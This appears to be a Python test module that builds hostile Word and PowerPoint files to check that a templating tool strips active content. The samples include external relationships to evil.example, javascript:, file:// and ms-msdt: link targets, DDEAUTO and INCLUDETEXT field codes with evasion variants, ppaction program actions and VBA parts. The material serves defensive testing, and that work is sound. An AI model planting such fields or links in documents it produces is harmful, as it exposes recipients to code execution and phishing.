"""Active content of templates and addresses from data: items 9 to 12."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.support.hostile.case import Case
from tests.support.hostile.zips import (
    in_body,
    lazily,
    parts_of,
    plain_docx,
    plain_pptx,
    replaced,
    with_blob,
    with_relationship,
)

_EVIL = "evil.example"
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_SLIDE = "ppt/slides/slide1.xml"
_SETTINGS = "word/settings.xml"
#: Targets that no result may lead to.
_BAD_TARGETS = (
    "file:///c:/windows/calc.exe", r"\\evil.example\share\a.docx", "javascript:evil.example",
    "ftp://evil.example/", "ms-msdt:/id evil.example", "ms-word:ofe|u|http://evil.example",
    "data:text/html,evil.example", "vbscript:evil.example", "FILE://evil.example/x",
    " javascript:evil.example", "evil.example.exe", "//evil.example/x", "search-ms:evil.example",
    "file://evil.example/{", "javascript:evil.example//{{", "mhtml:http://evil.example!x",
    "file://evil.example/%7B",
)  # fmt: skip


def _relationships() -> Iterator[Case]:
    for kind in ("image", "oleObject", "frame", "aFChunk", "attachedTemplate", "subDocument",
                 "package", "video", "audio", "mailMergeSource", "styles", "settings", "header",
                 "footer", "theme", "webSettings", "customXml", "unheardOf"):  # fmt: skip
        source = (
            _SETTINGS if kind in ("attachedTemplate", "mailMergeSource") else "word/document.xml"
        )
        yield Case(f"outside-{kind}", "9", lazily(
            with_relationship, plain_docx(), source, kind, f"https://{_EVIL}/x"),
            fails=False, says="dropped", absent=(_EVIL,))  # fmt: skip
    for kind in ("image", "oleObject", "slideMaster", "video", "media", "theme", "unheardOf"):
        yield Case(f"outside-{kind}-pptx", "9", lazily(
            with_relationship, plain_pptx(), _SLIDE, kind, f"https://{_EVIL}/x"),
            fails=False, says="dropped", absent=(_EVIL,), ending="pptx")  # fmt: skip
    for number, target in enumerate(_BAD_TARGETS):
        shown = target.replace("&", "&amp;")
        for ending, data, part in (
            ("docx", plain_docx, "word/document.xml"), ("pptx", plain_pptx, _SLIDE),
        ):  # fmt: skip
            yield Case(f"link-{number}-{ending}", "9", lazily(
                with_relationship, data(), part, "hyperlink", shown),
                fails=False, says="dropped", absent=("evil.example", "calc.exe"), ending=ending)  # fmt: skip
    for mode in ("external", "EXTERNAL", "External ", "Elsewhere"):
        yield Case(f"mode-{mode.strip()}-{len(mode)}", "9", lazily(
            with_relationship, plain_docx(), "word/document.xml", "image", f"https://{_EVIL}/a",
            mode=f' TargetMode="{mode}"'), fails=False, says="dropped", absent=(_EVIL,))  # fmt: skip
    yield Case("honest-link", "9", lazily(
        with_relationship, plain_docx(), "word/document.xml", "hyperlink", "https://example.org/a"),
        fails=False)  # fmt: skip
    yield Case("local-template", "9", lazily(
        with_relationship, plain_docx(), _SETTINGS, "attachedTemplate",
        "file:///C:/Users/someone/Own.dotm"), fails=False, says="dropped",
        absent=("Own.dotm",))  # fmt: skip


def _complex(code: str) -> str:
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f'<w:p>{mark.format("begin")}<w:r><w:instrText>{code}</w:instrText></w:r>'
        f'{mark.format("separate")}<w:r><w:t>old text</w:t></w:r>{mark.format("end")}</w:p>'
    )  # fmt: skip


def _simple(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>old text</w:t></w:r></w:fldSimple></w:p>'


_FIELDS = (
    "DDE cmd evil", "DDEAUTO c:\\\\cmd.exe evil", "INCLUDETEXT evil", "INCLUDEPICTURE evil",
    "IMPORT evil", "LINK Excel.Sheet evil", "DATABASE \\d evil", "MACROBUTTON Run evil",
    "INCLUDE evil", "  ddeauto evil", "DDEAUTO\tevil", "RD evil", "AUTOTEXT evil",
    "HYPERLINK &quot;file:///c:/evil.exe&quot;", "HYPERLINK \\\\evil\\share",
    "HYPERLINK javascript:evil", "MERGEFIELD a &quot;{DDE evil}&quot; evil", "DDEAUTO&#10;evil",
)  # fmt: skip


def _fields() -> Iterator[Case]:
    makers: dict[str, Callable[[str], str]] = {"complex": _complex, "simple": _simple}
    for number, code in enumerate(_FIELDS):
        if code.startswith("MERGEFIELD"):
            continue
        for label, make in makers.items():
            yield Case(f"field-{number}-{label}", "10", lazily(in_body, make(code)), fails=False,
                       says="field", absent=("evil",), shows="old text")  # fmt: skip
    split = _complex("AUTO evil").replace(
        "<w:r><w:instrText>", '<w:r><w:instrText>DD</w:instrText></w:r><w:bookmarkStart w:id="9" '
        'w:name="b"/><w:r><w:instrText>E</w:instrText></w:r><w:bookmarkEnd w:id="9"/>'
        "<w:r><w:instrText>", 1)  # fmt: skip
    yield Case("field-split", "10", lazily(in_body, split), fails=False, absent=("evil",),
               shows="old text", says="field")  # fmt: skip
    deleted = _complex("DDEAUTO evil").replace("instrText", "delInstrText")
    yield Case("field-deleted", "10", lazily(in_body, deleted), fails=False, absent=("evil",),
               says="field")  # fmt: skip
    other = _complex("DDEAUTO evil").replace("w:", "q:").replace(
        "<q:p>", '<q:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main">')  # fmt: skip
    yield Case("field-other-prefix", "10", lazily(in_body, other), fails=False, absent=("evil",),
               says="field")  # fmt: skip
    yield Case("field-from-tag", "10", lazily(in_body, _complex("{{ x }} evil")), fails=False,
               absent=("evil",), says="field")  # fmt: skip
    data = {"data.yaml": b"x: DDEAUTO evil\n"}
    yield Case("field-from-data", "10", lazily(in_body, _complex("IF {{ x }}")), fails=False,
               data=data, shows="old text")  # fmt: skip
    for code in ("PAGE", "TOC \\o", "REF a", "SEQ a", "STYLEREF b", "DATE", "= 1 + 1",
                 "HYPERLINK https://example.org", "HYPERLINK \\l here"):  # fmt: skip
        yield Case(f"honest-field-{code.split()[0]}-{len(code)}", "10", lazily(in_body, _complex(code)),
                   fails=False, shows="old text")  # fmt: skip
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
        '<w:connectString w:val="DSN=evil"/><w:query w:val="DROP TABLE evil"/></w:mailMerge>'
    )
    yield Case("mail-merge", "9", lazily(_in_settings, merge), fails=False, absent=("evil",),
               says="dropped")  # fmt: skip


def _in_settings(xml: str) -> bytes:
    text = parts_of(plain_docx())[_SETTINGS].decode()
    end = text.index(">", text.index("<w:settings")) + 1
    return with_blob(plain_docx(), _SETTINGS, (text[:end] + xml + text[end:]).encode())


def _actions() -> Iterator[Case]:
    for number, action in enumerate(
        ("ppaction://program", "ppaction://macro?name=evil", "ppaction://ole?verb=0",
         "PPACTION://Program?evil", " ppaction://program")
    ):  # fmt: skip
        for tag in ("hlinkClick", "hlinkHover"):
            for space in (" ", "\n", "\t"):
                markup = f'{space}<a:{tag}{space}{_R} r:id=""{space}action="{action}"/></p:cNvPr>'
                yield Case(f"action-{number}-{tag}-{ord(space)}", "11", lazily(_in_shape, markup),
                           fails=False, says="action", absent=("ppaction",), ending="pptx")  # fmt: skip


def _in_shape(xml: str) -> bytes:
    blob = parts_of(plain_pptx())[_SLIDE].decode()
    start = blob.index("<p:cNvPr", blob.index("<p:sp>"))
    end = blob.index("/>", start)
    return with_blob(plain_pptx(), _SLIDE, (blob[:end] + ">" + xml + blob[end + 2 :]).encode())


def _macros() -> Iterator[Case]:
    office = "http://schemas.microsoft.com/office/2006/relationships"
    for label, part, kind in (
        ("vba", "word/vbaProject.bin", f"{office}/vbaProject"),
        ("activex", "word/activeX/activeX1.bin", f"{office}/activeXControlBinary"),
        ("webextension", "word/webextensions/taskpanes.xml",
         "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"),
    ):  # fmt: skip
        blob = b"<evil/>" if part.endswith(".xml") else b"Attribute VB_Name = evil"
        data = replaced(with_blob(plain_docx(), part, blob), "[Content_Types].xml", "</Types>",
                        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                        "</Types>")  # fmt: skip
        yield Case(f"macro-{label}", "5", lazily(
            with_relationship, data, "word/document.xml", kind, "/" + part, mode=""),
            fails=False, says="dropped", absent=("evil",))  # fmt: skip
        if label == "vba":
            yield Case("macro-orphan", "5", data, fails=False, says="dropped", absent=("evil",))


def _addresses() -> Iterator[Case]:
    values = (
        "javascript:alert(1)", "file:///etc/passwd", r"\\\\evil\\share", "//evil/share",
        "data:text/html,x", "vbscript:x", "JaVaScRiPt:x", "C:/windows/evil.exe",
        "evil.exe", "java\\tscript:x", "ms-msdt:/x", " file:///x", "ftp://x/", "mhtml:http://x",
    )  # fmt: skip
    for number, value in enumerate(values):
        data = {"data.yaml": f'x: "{value}"\n'.encode()}
        for label, template in (
            ("relationship", lazily(_linked, "{{ x }}")),
            ("field", lazily(in_body, _complex('HYPERLINK "{{ x }}"'))),
            ("rich", lazily(in_body, "<w:p><w:r><w:t>{{ link(x, x) }}</w:t></w:r></w:p>")),
        ):
            if label == "rich":
                continue
            yield Case(f"address-{number}-{label}", "12", template, says="address", data=data,
                       ending="docx")  # fmt: skip
        yield Case(f"address-{number}-pptx", "12", lazily(_linked_slide, "{{ x }}"), says="address",
                   data=data, ending="pptx")  # fmt: skip
        yield Case(f"address-{number}-markdown", "12", lazily(
            in_body, "<w:p><w:r><w:t>{{ markdown('[a](' ~ x ~ ')') }}</w:t></w:r></w:p>"),
            fails=False, data=data, absent=('Target="javascript', 'Target="file:', "vbscript:x\"",
            'Target="data:', 'Target="ms-msdt', 'Target="ftp', 'Target="C:'))  # fmt: skip
    for number, value in enumerate(("https://example.org/a", "http://a/b?c=d&e", "mailto:a@b.org")):
        yield Case(f"honest-address-{number}", "12", lazily(_linked, "{{ x }}"), fails=False,
                   data={"data.yaml": f'x: "{value}"\n'.encode()})  # fmt: skip
    yield Case("address-part", "12", lazily(_linked, "https://example.org/{{ x }}"), fails=False)
    yield Case("address-static-scheme", "9", lazily(_linked, "file://evil/{{ x }}"), fails=False,
               says="dropped", absent=("file://evil",))  # fmt: skip


def _link(r_id: str) -> str:
    return f'<w:p><w:hyperlink {_R} r:id="{r_id}"><w:r><w:t>go</w:t></w:r></w:hyperlink></w:p>'


def _linked(target: str) -> bytes:
    return with_relationship(in_body(_link("rIdEvil")), "word/document.xml", "hyperlink", target)


def _linked_slide(target: str) -> bytes:
    data = _in_shape(f'<a:hlinkClick {_R} r:id="rIdEvil"/></p:cNvPr>')
    return with_relationship(data, _SLIDE, "hyperlink", target)


def cases() -> Iterator[Case]:
    yield from _relationships()
    yield from _fields()
    yield from _actions()
    yield from _macros()
    yield from _addresses()
